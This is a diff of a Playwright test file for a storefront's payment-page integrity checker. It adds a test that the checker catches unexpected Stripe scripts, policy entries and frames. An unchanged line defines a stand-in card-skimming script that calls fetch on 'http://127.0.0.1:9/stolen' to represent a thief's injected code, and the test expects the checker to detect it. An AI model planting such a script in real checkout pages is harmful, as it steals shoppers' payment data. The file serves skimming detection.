@@ -1,13 +1,19 @@
 import { execFile } from 'node:child_process';
 import { createHash } from 'node:crypto';
+import { readFile } from 'node:fs/promises';
 import type { IncomingMessage, ServerResponse } from 'node:http';
 import { join } from 'node:path';
 import { expect } from '@playwright/test';
+import type { Inventory } from '../../storefront/src/server/payment-page/inventory.ts';
+import { checkIn } from '../../../tools/payment-page/check.ts';
+import type { Settings } from '../../../tools/payment-page/compare.ts';
 import { test as ownStorefrontTest } from '../fixtures/own-storefront.ts';
 import { askOn, startServer } from '../fixtures/small-server.ts';
 import type { PayableSample, Store } from '../fixtures/store.ts';
+import { standInForStripe } from '../fixtures/stripe/stand-in.ts';
 
 const workspace = join(import.meta.dirname, '../../..');
+const builtInventory = join(workspace, 'apps/storefront/dist/payment-page/inventory.json');
 
 /** A script as a thief would write it into the page, with leave to run, and an address to which it tells what is typed. */
 const stolen = 'fetch("http://127.0.0.1:9/stolen").catch(() => {})';
@@ -22,7 +28,8 @@ const test = ownStorefrontTest.extend<{ changedStore: string }>({
   },
 });
 
-test.use({ storefrontVariables: { METRICS_TOKEN: 'watch' } });
+const watched = { METRICS_TOKEN: 'watch' };
+test.use({ storefrontVariables: watched });
 test.setTimeout(240_000);
 
 async function change(origin: string, asked: IncomingMessage, answer: ServerResponse): Promise<void> {
@@ -43,19 +50,20 @@ async function change(origin: string, asked: IncomingMessage, answer: ServerResp
   answer.end(content);
 }
 
+/** Those of the storefront's settings that the checker needs. */
+const settingsOf = (sandboxOrigin: string) => ({
+  CARD_PROCESSOR: `${sandboxOrigin}/card-processor`,
+  LAUNCHDARKLY_CLIENT_ID: 'sandbox',
+  LAUNCHDARKLY_BASE_URL: `${sandboxOrigin}/flags`,
+  LAUNCHDARKLY_STREAM_URL: `${sandboxOrigin}/flags`,
+  LAUNCHDARKLY_EVENTS_URL: `${sandboxOrigin}/flags`,
+});
+
 /** Runs the checker as whoever watches the store does. */
 function check(origin: string, { number, accountNumber }: PayableSample, { sandboxOrigin }: Store) {
   const url = `${origin}/invoices/en-us`;
   const words = ['run', '--silent', 'check:payment-page', '--', url, '--invoice', number, '--account', accountNumber];
-  const flags = `${sandboxOrigin}/flags`;
-  const env = {
-    ...process.env,
-    CARD_PROCESSOR: `${sandboxOrigin}/card-processor`,
-    LAUNCHDARKLY_CLIENT_ID: 'sandbox',
-    LAUNCHDARKLY_BASE_URL: flags,
-    LAUNCHDARKLY_STREAM_URL: flags,
-    LAUNCHDARKLY_EVENTS_URL: flags,
-  };
+  const env = { ...process.env, ...settingsOf(sandboxOrigin) };
   return new Promise<{ code: unknown; said: string }>((resolve) =>
     execFile('npm', words, { cwd: workspace, env }, (error, said, complaint) =>
       resolve({ code: error?.code ?? 0, said: said + complaint }),
@@ -95,4 +103,41 @@ test('whoever changes a script, a header, the policy, or has the page speak to o
     ['connection', 'fetch', 'nothing', 'http://127.0.0.1:9/stolen'],
   ]);
   expect(code).toBe(1);
+});
+
+test.describe('where cards are typed into Stripe’s fields', () => {
+  const stripe = { STRIPE_PUBLISHABLE_KEY: 'pk_test_journeys' };
+  test.use({ storefrontVariables: { ...watched, ...stripe } });
+
+  test('the page is as the build has it; a store that should have none of Stripe’s is found out', async ({
+    ownStorefront,
+    browser,
+    store,
+    takeInvoice,
+  }) => {
+    const context = await browser.newContext();
+    await standInForStripe(context, store);
+    const { number: invoice, accountNumber: account } = takeInvoice({ currency: 'USD' });
+    const sought = { url: `${ownStorefront.origin}/invoices/en-us`, chosen: { invoice, account } };
+    const settings = settingsOf(store.sandboxOrigin);
+    const inventory = JSON.parse(await readFile(builtInventory, 'utf8')) as Inventory;
+    const differencesWith = async (more: Settings) => {
+      const check = { ...sought, inventory, settings: { ...settings, ...more } };
+      return (await checkIn(context, check)).differences;
+    };
+    expect(await differencesWith(stripe)).toEqual([]);
+    const found = (await differencesWith({})).map(({ what, name }) => `${what} ${name}`);
+    expect(new Set(found)).toEqual(
+      new Set([
+        'script https://js.stripe.com/endive/stripe.js',
+        'policy script-src',
+        'policy connect-src',
+        'policy frame-src',
+        'policy trusted-types',
+        'connection script',
+        'frame https://js.stripe.com',
+      ]),
+    );
+    await context.close();
+  });
 });
